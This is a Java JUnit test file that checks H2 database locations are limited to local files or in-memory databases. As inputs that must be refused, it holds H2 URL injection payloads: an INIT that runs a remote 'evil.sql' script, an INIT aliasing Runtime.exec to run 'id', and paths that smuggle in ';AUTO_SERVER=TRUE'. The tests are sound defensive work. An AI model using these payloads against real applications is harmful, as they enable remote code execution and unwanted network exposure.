package io.veritag.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Issue 14 item 2: what the user names as the database is a path or a local H2 URL, never a server. */
@org.junit.jupiter.api.Tag("h2-only") // files, H2 settings or no database: nothing to run again on PostgreSQL
class DatabaseLocationTest {
    @TempDir
    Path dir;

    @Test
    void onlyAFileThatDoesNotExistYetIsANewDatabase() throws Exception {
        Path fresh = dir.resolve("desk");
        assertThat(DatabaseLocation.isNewFile(fresh.toString())).isTrue();
        assertThat(DatabaseLocation.isNewFile(fresh + ".mv.db")).isTrue();
        assertThat(DatabaseLocation.isNewFile("jdbc:h2:file:" + fresh)).isTrue();
        assertThat(DatabaseLocation.isNewFile("jdbc:h2:file:" + fresh + ";IFEXISTS=TRUE")).as("would not be made").isFalse();
        assertThat(DatabaseLocation.isNewFile("jdbc:h2:mem:desk")).isFalse();
        assertThat(DatabaseLocation.isNewFile("jdbc:postgresql://localhost/desk")).isFalse();
        assertThat(DatabaseLocation.isNewFile(dir.resolve("a;b").toString())).as("refused: opening says why").isFalse();
        Files.writeString(Path.of(fresh + ".mv.db"), "");
        assertThat(DatabaseLocation.isNewFile(fresh.toString())).isFalse();
    }

    @Test
    void aPathGetsTheFileSettings() {
        assertThat(DatabaseLocation.jdbcUrl(dir.resolve("team.mv.db").toString()))
                .isEqualTo("jdbc:h2:file:" + dir.resolve("team") + ";WRITE_DELAY=0;QUERY_CACHE_SIZE=0");
        assertThat(DatabaseLocation.jdbcUrl(null)).isEqualTo(DatabaseLocation.jdbcUrl(" "))
                .isEqualTo("jdbc:h2:file:" + AppHome.defaultDatabase().toAbsolutePath().normalize() + ";WRITE_DELAY=0;QUERY_CACHE_SIZE=0");
    }

    @Test
    void aUrlGetsTheMissingFileSettingsAndKeepsHarmlessOnes() {
        assertThat(DatabaseLocation.jdbcUrl("jdbc:h2:file:" + dir.resolve("a") + ";IFEXISTS=TRUE"))
                .isEqualTo("jdbc:h2:file:" + dir.resolve("a") + ";IFEXISTS=TRUE;WRITE_DELAY=0;QUERY_CACHE_SIZE=0");
        assertThat(DatabaseLocation.jdbcUrl("jdbc:h2:" + dir.resolve("b") + ";write_delay=0"))
                .isEqualTo("jdbc:h2:file:" + dir.resolve("b") + ";WRITE_DELAY=0;QUERY_CACHE_SIZE=0");
        assertThat(DatabaseLocation.jdbcUrl("jdbc:h2:mem:x;DB_CLOSE_DELAY=-1")).isEqualTo("jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;QUERY_CACHE_SIZE=0");
    }

    @Test
    void aSemicolonInAPathIsRefusedAndNothingIsCreated() {
        String sneaky = dir.resolve("team").toString() + ";AUTO_SERVER=TRUE";
        assertThatThrownBy(() -> Database.open(sneaky))
                .isInstanceOf(StoreException.class)
                .hasMessage("Refused database " + sneaky + ": a path cannot contain ';' (H2 would read what follows as settings)");
        assertThat(dir).isEmptyDirectory();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            ";AUTO_SERVER=TRUE", ";AUTO_SERVER=TRUE;AUTO_SERVER_PORT=9092", ";auto_server=true", ";AUTO_RECONNECT=TRUE",
            ";AUTO_SERVER_PORT=9092"})
    void noUrlStartsAServer(String settings) {
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("jdbc:h2:file:" + dir.resolve("x") + settings))
                .isInstanceOf(StoreException.class)
                .hasMessageContaining("would start a server listening on the network");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:tcp://localhost/~/x", "jdbc:h2:ssl://example.org/x", "jdbc:h2:file:tcp://h/x",
            "jdbc:h2:zip:/tmp/a.zip!/x", "jdbc:h2:split:/tmp/x", "jdbc:h2:nio:/tmp/x", "jdbc:h2:async:/tmp/x"})
    void noUrlReachesAServerOrASpecialFileSystem(String url) {
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl(url))
                .isInstanceOf(StoreException.class)
                .hasMessageContaining("only local files (jdbc:h2:file:) and private in-memory databases");
    }

    @Test
    void noUrlRunsSqlOnOpen() {
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.org/evil.sql'"))
                .hasMessageContaining("INIT would run SQL or a script");
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("jdbc:h2:mem:x;INIT=CREATE ALIAS X FOR 'java.lang.Runtime.exec'\\;CALL X('id')"))
                .isInstanceOf(StoreException.class);
    }

    @Test
    void settingsThatContradictOrAreUnknownAreRefused() {
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("jdbc:h2:file:" + dir.resolve("x") + ";WRITE_DELAY=500"))
                .hasMessageContaining("WRITE_DELAY=500 contradicts WRITE_DELAY=0");
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("jdbc:h2:mem:x;QUERY_CACHE_SIZE=8"))
                .hasMessageContaining("QUERY_CACHE_SIZE=8 contradicts QUERY_CACHE_SIZE=0");
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("jdbc:h2:file:" + dir.resolve("x") + ";FILE_LOCK=NO"))
                .hasMessageContaining("the setting FILE_LOCK is not supported");
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("jdbc:h2:file:" + dir.resolve("x") + ";PASSWORD=x"))
                .hasMessageContaining("the setting PASSWORD is not supported");
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("jdbc:h2:file:" + dir.resolve("x") + "\\;AUTO_SERVER=TRUE"))
                .hasMessageContaining("escaped ';'");
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("jdbc:mysql://example/x")).hasMessageContaining("only jdbc:h2:");
    }

    @Test
    void urlLikePathsAndControlCharactersAreRefusedAndShownEscaped() {
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("tcp://localhost/x"))
                .hasMessageContaining("this looks like a URL");
        assertThatThrownBy(() -> DatabaseLocation.jdbcUrl("team\u001b[31m\nx"))
                .hasMessage("Refused database team\\u001b[31m\\u000ax: a path cannot contain control characters");
    }

    @Test
    void oddButHarmlessPathsStayOneFile() throws Exception {
        Path odd = dir.resolve("a b'c\"d$e");
        try (Database database = Database.open(odd.toString())) {
            database.store().articles().count();
        }
        try (var files = Files.list(dir)) {
            assertThat(files.map(f -> f.getFileName().toString()).filter(f -> f.endsWith(".mv.db")))
                    .containsExactly("a b'c\"d$e.mv.db");
        }
    }
}
